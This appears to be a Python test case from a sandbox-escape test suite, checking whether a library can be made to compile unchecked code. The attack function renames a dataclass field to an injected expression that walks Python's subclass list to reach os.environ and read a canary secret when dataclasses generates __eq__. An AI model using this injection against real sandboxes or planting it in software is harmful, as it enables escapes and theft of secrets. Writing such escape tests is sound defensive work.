"""No app makes a library compile code that was never checked."""

CLASS = "eval"
BOUNDARY = "both"
NEEDS = ("dataclasses",)


import dataclasses

found = []


def leak(value):
    found.append(value)
    return value


@dataclasses.dataclass
class Base:
    plain: int


class Plain:
    x = 1


def attack():
    field = dataclasses.fields(Base)[0]
    field.name = (
        "x, leak([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
        ".__init__.__globals__['environ']['VAAS_CANARY'])"
    )

    @dataclasses.dataclass(init=False, repr=False, match_args=False)
    class Evil(Base):
        pass

    Evil.__eq__(Plain(), Plain())
    return "ESCAPED: " + found[0]
